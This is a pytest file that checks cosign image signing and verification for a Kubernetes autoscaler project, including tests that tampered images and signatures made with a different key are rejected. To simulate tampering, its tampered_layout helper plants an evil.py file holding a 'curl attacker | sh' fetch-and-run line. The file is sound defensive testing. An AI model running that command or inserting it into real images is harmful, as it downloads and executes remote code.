"""The index signed and attested, verified as a cluster's admission policy verifies it, and
rejected when tampered with: against a real registry on loopback, with the real cosign
(built from its Go module by scripts/pinned-tool.sh) and the project's own `make sign` /
`make verify` (image/sign.sh), a key pair and no transparency log.

Tampering, two ways, each refused with cosign's own error:
- the tag re-pushed with one layer changed (a file added to the code layer): the tag now
  names a manifest and an index nobody signed;
- the very image signed by another key: the signature does not verify with ours.
The chart is published to the same registry as an OCI artifact (`make chart-publish`).
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import subprocess
import tarfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from ocibuild import oci

from tests.image.registry import OUT, Registry, built

REPO = Path(__file__).resolve().parents[2]
BUILT: dict[str, Any] = built() if (OUT / "digests.json").exists() else {"platforms": {}}
VERSION = str(BUILT.get("version", "0.1.0"))
NAME = "cluster-proportional-autoscaler-py"

pytestmark = pytest.mark.timeout(900)


def report(**figures: object) -> None:
    print("\n[image-test] " + " ".join(f"{k}={v}" for k, v in figures.items()), flush=True)


def make(target: str, *args: str, check: bool = True) -> subprocess.CompletedProcess[str]:
    proc = subprocess.run(["make", "--no-print-directory", "-s", target, *args], cwd=REPO,
                          capture_output=True, text=True, check=False, timeout=900,
                          env={**os.environ, "COSIGN_PASSWORD": ""})
    if check and proc.returncode != 0:
        pytest.fail(f"make {target} failed ({proc.returncode}):\n{proc.stdout}\n{proc.stderr}")
    return proc


def cosign() -> str:
    return subprocess.run(["bash", str(REPO / "scripts" / "pinned-tool.sh"), "cosign"],
                          capture_output=True, text=True, check=True).stdout.strip()


def key_pair(where: Path) -> tuple[Path, Path]:
    where.mkdir(parents=True, exist_ok=True)
    subprocess.run([cosign(), "generate-key-pair"], cwd=where, check=True,
                   capture_output=True, env={**os.environ, "COSIGN_PASSWORD": ""})
    return where / "cosign.key", where / "cosign.pub"


@pytest.fixture(scope="module")
def registry() -> Iterator[Registry]:
    if not BUILT["platforms"]:
        pytest.fail(f"no image index in {OUT}: run `make image` first")
    with Registry() as reg:
        yield reg


@pytest.fixture(scope="module")
def keys(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, Path]]:
    base = tmp_path_factory.mktemp("keys")
    return {"ours": key_pair(base / "ours"), "other": key_pair(base / "other")}


@pytest.fixture(scope="module")
def signed(registry: Registry, keys: dict[str, tuple[Path, Path]]) -> str:
    """The index pushed and signed with our key; ``host:port/name@sha256:...``."""
    ref = registry.push(NAME, VERSION)
    proc = make("sign", f"IMAGE={ref}", f"KEY={keys['ours'][0]}")
    assert f"signed {ref}" in proc.stdout, proc.stdout
    assert proc.stdout.count("attested") == len(BUILT["platforms"]) + 1, proc.stdout
    return ref


def test_verify_accepts_the_signed_index(signed: str, keys: dict[str, tuple[Path, Path]]
                                         ) -> None:
    proc = make("verify", f"IMAGE={signed}", f"KEY={keys['ours'][1]}")
    lines = [line for line in proc.stdout.splitlines() if line.startswith("[verify]")]
    # The index and each platform: signature, SBOM and provenance verified by cosign.
    assert len(lines) == len(BUILT["platforms"]) + 2, proc.stdout
    assert "every SBOM names exactly what its image holds" in lines[-1]
    assert BUILT["revision"] in lines[-1]
    report(verified=signed, checks=len(lines) - 1)


def test_verify_by_tag_too(signed: str, registry: Registry,
                           keys: dict[str, tuple[Path, Path]]) -> None:
    """What a policy sees: the tag resolves to the signed index."""
    make("verify", f"IMAGE={registry.host}/{NAME}:{VERSION}", f"KEY={keys['ours'][1]}")


def cosign_error(stderr: str) -> str:
    """cosign's own error line out of `make verify`'s stderr."""
    return next((line for line in stderr.splitlines() if line.startswith(("Error:", "error"))),
                stderr.strip().splitlines()[0])[:200]


def tampered_layout(where: Path) -> Path:
    """The built layout with one file added to linux/amd64's code layer: a new layer, a
    new config and manifest, a new index."""
    first = oci.Layout(OUT / "layout")
    layout = oci.Layout(where)
    index = json.loads(first.read(BUILT["index"]))
    entries = []
    for entry in index["manifests"]:
        manifest = json.loads(first.read(entry["digest"]))
        config = json.loads(first.read(manifest["config"]["digest"]))
        for layer in manifest["layers"]:
            layout.put(first.read(layer["digest"]), layer["mediaType"])
        if entry["platform"]["architecture"] == "amd64":
            code = manifest["layers"][-1]
            raw = io.BytesIO(gzip.decompress(first.read(code["digest"])))
            with tarfile.open(fileobj=raw, mode="a") as tar:
                payload = b"import os; os.system('curl attacker | sh')\n"
                info = tarfile.TarInfo("opt/venv/lib/python3.11/site-packages/evil.py")
                info.size = len(payload)
                tar.addfile(info, io.BytesIO(payload))
            data = raw.getvalue()
            blob = layout.put(gzip.compress(data, mtime=0), code["mediaType"])
            manifest["layers"][-1] = blob.descriptor()
            config["rootfs"]["diff_ids"][-1] = "sha256:" + hashlib.sha256(data).hexdigest()
        cfg = layout.put(oci.canonical(config), oci.MT_CONFIG)
        manifest["config"] = cfg.descriptor()
        blob = layout.put(oci.canonical(manifest), oci.MT_MANIFEST)
        entries.append((blob, entry["platform"]))
    layout.tag(oci.index(layout, entries, index.get("annotations", {})), VERSION)
    return where


def test_a_retagged_image_with_a_changed_layer_is_refused(
        signed: str, registry: Registry, keys: dict[str, tuple[Path, Path]],
        tmp_path: Path) -> None:
    tag = f"{registry.host}/{NAME}:{VERSION}"
    pushed = registry.push(NAME, VERSION, tampered_layout(tmp_path / "tampered"))
    assert pushed != signed
    try:
        proc = make("verify", f"IMAGE={tag}", f"KEY={keys['ours'][1]}", check=False)
        assert proc.returncode != 0, proc.stdout
        # cosign's own words: nothing signed that digest.
        assert "[cosign] verify" in proc.stderr, proc.stderr
        assert "no signatures found" in proc.stderr or "no matching signatures" in proc.stderr, \
            proc.stderr
        report(tampered=pushed, refused=repr(cosign_error(proc.stderr)))
    finally:
        registry.push(NAME, VERSION)   # the tag back on the signed index


def test_a_signature_from_another_key_is_refused(
        registry: Registry, keys: dict[str, tuple[Path, Path]]) -> None:
    ref = registry.push(f"{NAME}-other", VERSION)
    make("sign", f"IMAGE={ref}", f"KEY={keys['other'][0]}")
    proc = make("verify", f"IMAGE={ref}", f"KEY={keys['ours'][1]}", check=False)
    assert proc.returncode != 0, proc.stdout
    assert "[cosign] verify" in proc.stderr, proc.stderr
    assert "no matching signatures" in proc.stderr, proc.stderr
    # With the key that did sign it, the same image verifies.
    make("verify", f"IMAGE={ref}", f"KEY={keys['other'][1]}")
    report(other_key=ref, refused=repr(cosign_error(proc.stderr)))


def test_the_chart_is_published_as_an_oci_artifact(registry: Registry) -> None:
    proc = subprocess.run(["make", "-s", "--no-print-directory", "chart-publish",
                           f"CHART_REPO=oci://{registry.host}/charts"], cwd=REPO,
                          capture_output=True, text=True, check=False, timeout=600,
                          env={**os.environ, "HELM_PLAIN_HTTP": "1"})
    assert proc.returncode == 0, proc.stderr
    ref = proc.stdout.strip().splitlines()[-1]
    assert ref.startswith(f"oci://{registry.host}/charts/cluster-proportional-autoscaler@sha256:")
    manifest = json.loads(registry.crane("manifest", ref.removeprefix("oci://")))
    assert manifest["config"]["mediaType"] == "application/vnd.cncf.helm.config.v1+json"
    assert manifest["layers"][0]["mediaType"] == \
        "application/vnd.cncf.helm.chart.content.v1.tar+gzip"
    report(chart=ref)
